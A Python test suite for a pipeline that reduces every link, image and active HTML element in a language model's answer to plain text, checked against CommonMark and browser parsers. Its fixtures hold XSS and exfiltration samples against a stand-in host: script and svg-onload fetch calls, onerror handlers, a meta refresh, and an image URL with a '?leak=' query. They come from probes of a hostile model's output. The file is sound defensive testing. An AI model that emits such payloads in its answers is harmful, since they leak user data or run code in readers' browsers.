"""Prose carries no links: whatever link form the model writes, the pipeline's text renders
without a link, an image or an element that navigates, fetches or runs. A CommonMark renderer
(markdown-it, raw HTML on and off) is the judge, since it is what turns a missed form into a
live link on a reader's page, and a browser's HTML parser (lexbor's) judges the raw HTML it
passes on."""

from __future__ import annotations

import re

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token
from selectolax.lexbor import LexborHTMLParser

from citeline.stream import Anchor, Pipeline

from .test_properties import PIECES, split

RENDERER = MarkdownIt("commonmark")
RENDERERS = {"html on": RENDERER, "html off": MarkdownIt("commonmark", {"html": False})}


def _without_markdown_links(renderer: MarkdownIt) -> MarkdownIt:
    """``renderer``, writing no element for a markdown link or image: those are judged by
    their tokens, and what is left is the raw HTML a browser would be given."""
    quiet = MarkdownIt("commonmark", {"html": renderer.options["html"]})
    for rule in ("link_open", "link_close", "image"):
        quiet.add_render_rule(rule, lambda *_: "")
    return quiet


RAW_HTML = {name: _without_markdown_links(renderer) for name, renderer in RENDERERS.items()}
# Written here, apart from the stream's own lists, so that one cannot vouch for the other:
# elements that navigate, fetch or run by being there, and attributes that do on any element.
ACTIVE_ELEMENTS = {
    "a", "area", "audio", "base", "button", "embed", "form", "frame", "frameset", "iframe",
    "image", "img", "input", "link", "meta", "object", "picture", "portal", "script",
    "source", "style", "track", "use", "video", "animate", "set",
}  # fmt: skip
ADDRESS_ATTRIBUTES = {
    "href", "src", "srcset", "srcdoc", "action", "formaction", "data", "poster",
    "background", "style", "xlink:href", "ping", "lowsrc", "dynsrc",
}  # fmt: skip


def active_elements_in(html: str) -> list[str]:
    """The elements a browser (lexbor, through selectolax) builds from ``html`` that are
    active by the lists above."""
    found: list[str] = []
    for node in LexborHTMLParser(html).root.traverse(include_text=False):
        names = {name.lower() for name in node.attributes}
        if (
            node.tag in ACTIVE_ELEMENTS
            or names & ADDRESS_ATTRIBUTES
            or any(name.startswith("on") for name in names)
        ):
            found.append(f"<{node.tag} {sorted(names)}>")
    return found


def links_in(markdown: str) -> list[str]:
    """Every link, image or active element a renderer would make of ``markdown``, with raw
    HTML on or off: link and image tokens, and active elements in the raw HTML passed on.

    Not a link whose text holds a code span with a bracket in it ("[`]`](u)"): the one
    form the stream does not reduce, as contracts/stream.md says.
    """
    found: list[str] = []

    def walk(tokens: list[Token]) -> None:
        for at, token in enumerate(tokens):
            if token.type == "link_open" and not _bracket_in_code_span(tokens[at + 1 :]):
                found.append(str(token.attrGet("href")))
            if token.type == "image":
                found.append("image " + str(token.attrGet("src")))
            if token.children:
                walk(token.children)

    for name, renderer in RENDERERS.items():
        walk(renderer.parse(markdown))
        # The page a browser is given, all of it together: a tag one raw HTML token leaves
        # open is continued by what follows it.
        found += active_elements_in(RAW_HTML[name].render(markdown))
    return found


def _bracket_in_code_span(after_open: list[Token]) -> bool:
    for token in after_open:
        if token.type == "link_close":
            return False
        if token.type == "code_inline" and ("[" in token.content or "]" in token.content):
            return True
    return False


def run(fragments: list[str]) -> tuple[str, list[Anchor]]:
    pipeline = Pipeline()
    chunks = [*(pipeline.feed(fragment) for fragment in fragments), pipeline.flush()]
    return "".join(c.text for c in chunks), [a for c in chunks for a in c.anchors]


# The forms a hostile-model probe got through to the page (issue 13, item 3), and the
# other CommonMark and HTML link forms beside them.
HOSTILE = {
    "an autolink": ("See <https://evil.example/x>.", "https://evil.example/x"),
    "an e-mail autolink": ("Write to <me@evil.example>.", "mailto:me@evil.example"),
    "a reference link": ("See [the site][1].\n\n[1]: https://evil.example/r\n", None),
    "a collapsed reference": ("[Evil]: https://evil.example/c\n\nSee [Evil][].", None),
    "a shortcut reference": ("See [Evil].\n\n[evil]: https://evil.example/s 'T'\n", None),
    "blanks around the destination": ("See [x]( https://evil.example/b ).", None),
    "a single-quoted title": ("See [x](https://evil.example/q 'title').", None),
    "a parenthesised title": ("See [x](https://evil.example/p (title)).", None),
    "a newline before the parenthesis": ("See [x](https://evil.example/n\n).", None),
    "a newline in the text": ("See [x\ny](https://evil.example/t).", None),
    "nested brackets": ("See [[1]](https://evil.example/1).", None),
    "escaped brackets": ("See [a \\] b](https://evil.example/e).", None),
    "an angled destination": ("See [x](<https://evil.example/a b>).", None),
    "nested parentheses": ("See [x](https://evil.example/((p))).", None),
    "a link in a link": ("See [a [b](https://evil.example/i) c](https://evil.example/o).", None),
    "an HTML anchor with > in a quoted value": ('<a href="https://e.example/?a>b">x</a>', None),
    "a definition in a block quote": ("See [q].\n\n> [q]: https://evil.example/bq\n", None),
    "a definition in a list item": ("See [l].\n\n- [l]: https://evil.example/li\n", None),
    "a ¹ marker to an outside site": ("Apoptosis[¹](https://evil.example/sup).", None),
    "a long link": ("[" + "y" * 500 + "](https://evil.example/long)", None),
    "a long tag": ('<a href="https://evil.example/' + "z" * 300 + '">x</a>', None),
}


@pytest.mark.parametrize("text", [case[0] for case in HOSTILE.values()], ids=list(HOSTILE))
def test_every_link_form_is_reduced_to_text_however_split(text: str) -> None:
    whole, anchors = run([text])
    assert links_in(text), "the case must be a link as written"
    assert links_in(whole) == []
    assert run(list(text)) == (whole, anchors)


def test_an_autolink_becomes_its_address_as_text_and_an_anchor() -> None:
    # The colon is escaped so that "<" and ">" around it can never make it a link again;
    # a renderer shows "https\\://" as "https://".
    text, anchors = run(["See <https://evil.example/x>."])
    assert text == "See https\\://evil.example/x."
    assert anchors == [Anchor("https://evil.example/x", "https\\://evil.example/x", 4, 27)]
    assert RENDERER.render(text) == "<p>See https://evil.example/x.</p>\n"


@pytest.mark.parametrize(
    "text",
    [
        "(relevant <<<me@e.org>>[1]: x",
        "'[<<https:<https://e.org/auto>\\#><`",
        'a:[[ \\\'!":-"*](!b*</A >\\[)<me@e.org>',
    ],
)
def test_markup_nested_around_removed_markup_cannot_rebuild_a_link(text: str) -> None:
    # Found by fuzzing: each needs the revival check to look two levels deep.
    whole, _ = run([text])
    assert links_in(whole) == []
    assert run(list(text))[0] == whole


def test_a_reference_link_defined_later_is_reported_by_its_definition() -> None:
    text, anchors = run(["See [the site][1].\n\n[1]: https://e.org/r\n"])
    assert text == "See the site.\n\n"
    assert anchors == [Anchor("https://e.org/r", "1", None, None)]


def test_a_reference_link_defined_earlier_keeps_its_offsets() -> None:
    text, anchors = run(["[1]: https://e.org/r\nSee [the site][1]."])
    assert text == "See the site."
    assert anchors == [
        Anchor("https://e.org/r", "1", None, None),
        Anchor("https://e.org/r", "the site", 4, 12),
    ]


CODE = {
    "a fenced block": '```html\n<a href="https://e.org">x</a>\n[y](https://e.org)\n```\n',
    "a tilde fence": "~~~\n[1]: https://e.org\n# References\n~~~\n",
}


@pytest.mark.parametrize("text", list(CODE.values()), ids=list(CODE))
def test_code_passes_through_verbatim(text: str) -> None:
    assert run([text]) == (text, [])
    assert run(list(text)) == (text, [])


def test_a_link_inside_a_code_span_is_code_and_no_anchor() -> None:
    # A model describing the citation format wrote this; reduced, it became a citation.
    answer = "Cite as `[Title](href)` or ``[a](b) `x` ``, then [y](https://e.org)."
    for fragments in ([answer], list(answer)):
        text, anchors = run(fragments)
        assert text == "Cite as `[Title](href)` or ``[a](b) `x` ``, then y."
        assert [anchor.href for anchor in anchors] == ["https://e.org"]


@pytest.mark.parametrize(
    "answer",
    [
        "5` ticks` then `[x](https://evil.example)`",  # a backtick before it on its line
        "| `[x](https://evil.example)|b` |",  # a table cell's edge inside it
        "`<b>[x](https://evil.example)`",  # raw HTML inside it
        "`[x](https://evil.example)`<a href=u>`</a>",  # removed markup right after it
        "`[x](https://evil.example)`[`](https://e.org)",  # a link whose text joins the run
        "`[x](https://evil.example)\nnext`",  # no closing run on its line
        "<a href=u>`</a>`[x](https://evil.example)`",  # a run that removed markup joins
    ],
)
def test_a_span_whose_pairing_could_change_shelters_no_link(answer: str) -> None:
    text, _ = run([answer.replace("\\n", "\n")])
    assert "evil.example)" not in text.replace("](https://evil.example)", "")
    assert links_in(text) == []
    assert links_in_gfm(text) == []


def links_in_gfm(markdown: str) -> list[str]:
    """Links a GitHub-flavoured renderer (tables on) would make, with raw HTML on."""
    return [
        str(token.attrGet("href"))
        for block in GFM.parse(markdown)
        for token in block.children or ()
        if token.type == "link_open"
    ]


GFM = MarkdownIt("commonmark").enable("table")


@settings(max_examples=300, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                "`",
                "``",
                "[x](https://evil.example)",
                "<a href=u>",
                "</a>",
                "|",
                " ",
                "\n",
                "a",
                "<",
                "[",
                "]",
                "(u)",
                "<https://e.org>",
                "| b |\n|---|\n",
                "<b>",
                "\n\n",
                "# ",
                "- ",
                "> ",
                "[y]: https://e.org\n",
                "[y]",
                "![",
            ]
        ),
        max_size=20,
    ).map("".join)
)
def test_no_arrangement_of_backticks_and_markup_renders_a_link(answer: str) -> None:
    for fragments in ([answer], list(answer)):
        text, _ = run(fragments)
        assert links_in(text) == [], text
        # markdown-it's table rule reads a fence line before a delimiter row as a table
        # header, where GitHub opens the fence: fences are code_fences' own rule.
        if not FENCE_LINE.search(text):
            assert links_in_gfm(text) == [], text


FENCE_LINE = re.compile(r"^ {0,3}(?:```|~~~)", re.MULTILINE)


@pytest.mark.parametrize(
    "text",
    [
        "\\</a>\\[x](https://evil.example)",
        "\\<a href=u>\\[x](https://evil.example)</a>",
        "\\</a>`[x](https://evil.example)`",
    ],
)
def test_a_backslash_left_before_removed_markup_escapes_what_it_now_precedes(text: str) -> None:
    # Found by fuzzing (issue 27): with "</a>" removed, the backslash before it escaped the
    # one before "[", so "[x](...)" was live; and a backtick after it opened no span.
    assert links_in(text) == [], "the case must hold no link as written"
    whole, _ = run([text])
    assert links_in(whole) == [], whole
    assert run(list(text))[0] == whole


def test_markup_removed_between_the_parts_of_a_link_does_not_join_them_into_one() -> None:
    for text in [
        "[a]</a>(https://evil.example)",
        "[a]<https://x.example>(https://evil.example)",
        '<a<a href="y"> href="https://evil.example">t</a>',
        "[a]</a></a>(https://evil.example)",
    ]:
        whole, _ = run([text])
        assert links_in(whole) == [], whole
        assert run(list(text))[0] == whole


def test_a_citation_number_inside_an_html_anchor_keeps_its_brackets() -> None:
    text, anchors = run(['Apoptosis <a href="https://e.org/1">[1]</a> is curated.'])
    assert text == "Apoptosis [1] is curated."
    assert [anchor.text for anchor in anchors] == ["[1]"]


def test_a_fence_that_a_list_item_would_close_is_not_taken_for_code() -> None:
    # Indented under a list item, the fence ends with the item on a renderer; taken for
    # code here, the link after it would have stayed live.
    text = "1. Steps\n   ```\n   x\nNot indented [x](https://e.org)\n"
    whole, _ = run([text])
    assert links_in(whole) == []


def test_a_fence_inside_an_html_block_is_not_taken_for_code() -> None:
    text = "<div>\n```\n</div>\n\nAfter [x](https://e.org)\n"
    whole, _ = run([text])
    assert links_in(whole) == []
    assert "After x" in whole


def test_a_line_opening_with_inline_code_is_not_a_fence() -> None:
    # A probe: "`ed()` ..." on a long line was kept as a possible fence line, compacted to
    # "```", and opened a block that sheltered every link after it.
    text = "`ed()` and " + "x" * 300 + " `more()`\n[a](https://e.org)\n"
    whole, anchors = run([text])
    assert links_in(whole) == [] and [anchor.href for anchor in anchors] == ["https://e.org"]


def test_bare_urls_stay_as_text() -> None:
    assert run(["See https://e.org/x and www.e.org."]) == ("See https://e.org/x and www.e.org.", [])


@st.composite
def answers_and_splits(draw: st.DrawFn) -> tuple[str, list[str]]:
    pieces = st.one_of(
        st.sampled_from(PIECES), st.text(alphabet="ab <[]()!\n:`\\>'\"~", max_size=6)
    )
    text = "".join(draw(st.lists(pieces, max_size=30)))
    return text, draw(split(text))


@settings(max_examples=300, deadline=None)
@given(answers_and_splits())
def test_no_answer_renders_a_link_after_the_pipeline(case: tuple[str, list[str]]) -> None:
    _, fragments = case
    text, _ = run(fragments)
    assert links_in(text) == []


# Issue 29's probes: CommonMark's own notions of a blank, a line ending and an HTML block,
# each of which let a live link through where the stream used a notion of its own.

# Unicode spaces that CommonMark takes as part of a destination, not as blanks.
UNICODE_SPACES = [
    "\u00a0", *(chr(code) for code in range(0x2000, 0x200B)), "\u2028", "\u2029", "\u3000",
    "\u0085", "\u1680",
]  # fmt: skip


@pytest.mark.parametrize("space", UNICODE_SPACES, ids=[f"U+{ord(c):04X}" for c in UNICODE_SPACES])
def test_a_unicode_space_inside_a_destination_does_not_keep_a_link_live(space: str) -> None:
    for text in [
        f"See [guide](https://evil.example/zebra{space}care).",
        f"See <https://evil.example/zebra{space}care>.",
        f"See [guide][r].\n\n[r]: https://evil.example/zebra{space}care\n",
    ]:
        assert links_in(text), "the case must be a link as written"
        whole, anchors = run([text])
        assert links_in(whole) == [], whole
        assert [anchor.href for anchor in anchors] == [f"https://evil.example/zebra{space}care"]
        assert run(list(text)) == (whole, anchors)


LINE_ENDINGS = {"CR": "\r", "CRLF": "\r\n", "LF": "\n"}


@pytest.mark.parametrize("ending", list(LINE_ENDINGS.values()), ids=list(LINE_ENDINGS))
def test_a_fence_closed_at_any_line_ending_leaves_the_link_after_it_reduced(ending: str) -> None:
    text = f"```{ending}code{ending}```{ending}[guide](https://evil.example/cr){ending}"
    assert links_in(text)
    whole, _ = run([text])
    assert links_in(whole) == []
    assert whole == f"```{ending}code{ending}```{ending}guide{ending}"
    assert run(list(text))[0] == whole


@pytest.mark.parametrize("ending", list(LINE_ENDINGS.values()), ids=list(LINE_ENDINGS))
def test_a_source_heading_ended_by_any_line_ending_is_dropped(ending: str) -> None:
    text = f"Answer.{ending}## Sources{ending}- [x](https://e.org/x){ending}"
    whole, anchors = run([text])
    assert whole == f"Answer.{ending}"
    assert [anchor.start for anchor in anchors] == [None]
    assert run(list(text)) == (whole, anchors)


def test_the_probes_fence_closed_by_a_lone_cr_shelters_no_link() -> None:
    # Issue 29's probe: the renderer closed the block at "```\r"; the stream kept it open.
    text = "```\ncode\r```\r[guide](https://evil.example/cr-probe)\n"
    assert links_in(text)
    whole, anchors = run([text])
    assert links_in(whole) == []
    assert [anchor.href for anchor in anchors] == ["https://evil.example/cr-probe"]
    assert run(list(text)) == (whole, anchors)


def test_a_crlf_split_between_fragments_ends_one_line_not_two() -> None:
    # Read as two line endings, the CR and LF made a blank line that ended the HTML block,
    # and the fence inside it opened "code" the renderer never saw.
    text = "<div>\r\n```\r\n</div>\r\nAfter [x](https://evil.example/crlf)\r\n"
    whole, _ = run([text])
    assert links_in(whole) == []
    for cut in range(len(text)):
        assert run([text[:cut], text[cut:]])[0] == whole


# CommonMark's HTML blocks of types 1 to 5 run past blank lines to their end; a fence line
# inside one is no fence for a renderer with raw HTML on.
HTML_BLOCKS = {
    "1 pre": ("<pre>", "</pre>"),
    "1 script": ("<script>", "</script>"),
    "1 style": ("<style>", "</style>"),
    "1 textarea": ("<textarea>", "</textarea>"),
    "2 comment": ("<!--", "-->"),
    "3 processing instruction": ("<?php", "?>"),
    "4 declaration": ("<!DOCTYPE html", ">"),
    "5 CDATA": ("<![CDATA[", "]]>"),
    "6 div": ("<div>", ""),
    "7 any tag": ("<span class=x>", ""),
}


@pytest.mark.parametrize("ending", list(LINE_ENDINGS.values()), ids=list(LINE_ENDINGS))
@pytest.mark.parametrize("block", list(HTML_BLOCKS.values()), ids=list(HTML_BLOCKS))
def test_a_fence_inside_an_html_block_shelters_no_link_after_the_block(
    block: tuple[str, str], ending: str
) -> None:
    start, end = block
    link = "[guide](https://evil.example/html)"
    if end:
        # Types 1 to 5: a blank line inside, the fence after it, the end, then the link.
        lines = [start, "", "```", "x", end, "", link, "```", ""]
    else:
        # Types 6 and 7 end at a blank line: the fence comes before it.
        lines = [start, "```", "x", "", link, "```", ""]
    text = ending.join(lines)
    assert links_in(text)
    whole, _ = run([text])
    assert links_in(whole) == [], whole
    assert run(list(text))[0] == whole


ACTIVE = {
    "area": '<map name=m><area href="https://evil.example/a" shape=default></map>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/m">',
    "base": '<base href="https://evil.example/">',
    "form": '<form action="https://evil.example/f"><button>Go</button></form>',
    "iframe": '<iframe src="https://evil.example/i"></iframe>',
    "img": '<img src="https://evil.example/p.png?leak=1">',
    "script": "<script>fetch('https://evil.example/s')</script>",
    "svg onload": "<svg onload=\"fetch('https://evil.example/v')\"></svg>",
    "a handler on an inert element": '<b onmouseover="alert(1)">hover</b>',
    "a style that fetches": '<span style="background:url(https://evil.example/b)">x</span>',
    "a handler after a quote": '<div>\n<b title="x"onclick="alert(1)">y</b>\n</div>\n',
    "in an HTML block": '<div>\n<img src=x onerror="alert(1)">\n</div>\n',
}


@pytest.mark.parametrize("text", list(ACTIVE.values()), ids=list(ACTIVE))
def test_no_element_that_navigates_fetches_or_runs_is_left_in_prose(text: str) -> None:
    assert links_in(text), "the case must be active as written"
    whole, _ = run([text])
    assert links_in(whole) == [], whole
    assert run(list(text))[0] == whole


def test_an_active_tag_is_shown_as_its_text() -> None:
    # Its "<" written "&lt;": the reader sees the tag the model wrote, and no browser runs it.
    whole, _ = run(['See <img src="https://evil.example/p.png"> here.'])
    assert whole == 'See &lt;img src="https://evil.example/p.png"> here.'
    assert RENDERER.render(whole) == (
        "<p>See &lt;img src=&quot;https://evil.example/p.png&quot;&gt; here.</p>\n"
    )


def test_inert_tags_and_generic_types_stay_as_written() -> None:
    text = "Use <b>sorted</b>, x<sup>2</sup>, <br/> and List<String> or Map<K, V>."
    assert run([text]) == (text, [])


def test_a_markdown_image_becomes_its_alt_text_and_an_anchor() -> None:
    text = "Look ![the chart](https://evil.example/p.png?leak=question) here."
    whole, anchors = run([text])
    assert whole == "Look the chart here."
    assert anchors == [Anchor("https://evil.example/p.png?leak=question", "the chart", 5, 14)]
    assert run(list(text)) == (whole, anchors)


@pytest.mark.parametrize(
    "text",
    [
        "![x][img]\n\n[img]: https://evil.example/r.png\n",
        "![x][]\n\n[x]: https://evil.example/c.png\n",
        "[![x](https://evil.example/i.png)](https://evil.example/l)",
        "![a ![b](https://evil.example/n.png)](https://evil.example/o.png)",
        "\\![x](https://evil.example/e)",
    ],
)
def test_every_image_form_is_reduced(text: str) -> None:
    assert links_in(text)
    whole, _ = run([text])
    assert links_in(whole) == [], whole
    assert run(list(text))[0] == whole


def test_an_exclamation_mark_not_before_a_bracket_is_prose() -> None:
    assert run(["Great! [x](https://e.org) !"])[0] == "Great! x !"


HOSTILE_PIECES = [
    *UNICODE_SPACES[:4],
    "\r",
    "\r\n",
    "\x00",
    "![",
    "](https://evil.example/p.png)",
    "<!--",
    "-->",
    "<pre>",
    "</pre>",
    "<script>",
    "</script>",
    "<style>",
    "<textarea>",
    "<?",
    "?>",
    "<!DOCTYPE",
    "<![CDATA[",
    "]]>",
    "<div>",
    "<span>",
    "<img src=x onerror=y>",
    "<svg onload=y>",
    ' style="x"',
    " onclick=y",
    "<b ",
    "```",
    "~~~",
    "\n\n",
    # Issue 27's forms beside them: code spans kept as code (and runs that must not be), a
    # table cell's edge, and tool calls a model server left as text.
    "`[x](https://evil.example)`",
    "``",
    "`![x](https://evil.example/p.png)`",
    "|",
    "<tool_call>",
    "</tool_call>",
    '{"name": "s", "arguments": {}}',
    "```json\n",
]


@st.composite
def hostile_answers_and_splits(draw: st.DrawFn) -> tuple[str, list[str]]:
    pieces = st.one_of(
        st.sampled_from(PIECES),
        st.sampled_from(HOSTILE_PIECES),
        st.text(alphabet="ab <[]()!\n\r:`\\>'\"~=\u00a0\u3000", max_size=6),
    )
    text = "".join(draw(st.lists(pieces, max_size=30)))
    return text, draw(split(text))


@settings(max_examples=400, deadline=None)
@given(hostile_answers_and_splits())
# Found by fuzzing: the backslash left before removed markup escaped the next one, and the
# link after it was live; a definition's title on its next line, split there, came out prose.
@example(("\\</a>\\[x](https://evil.example)", ["\\</a>\\", "[x](https://evil.example)"]))
@example(("\\</a>`[x](https://evil.example)`", list("\\</a>`[x](https://evil.example)`")))
@example(('[1]: <a href="\u2026">\n()', ['[1]: <a href="\u2026">\n', "()"]))
def test_no_hostile_answer_renders_a_link_image_or_active_element(
    case: tuple[str, list[str]],
) -> None:
    text, fragments = case
    whole, anchors = run([text])
    assert links_in(whole) == []
    assert run(fragments) == (whole, anchors)
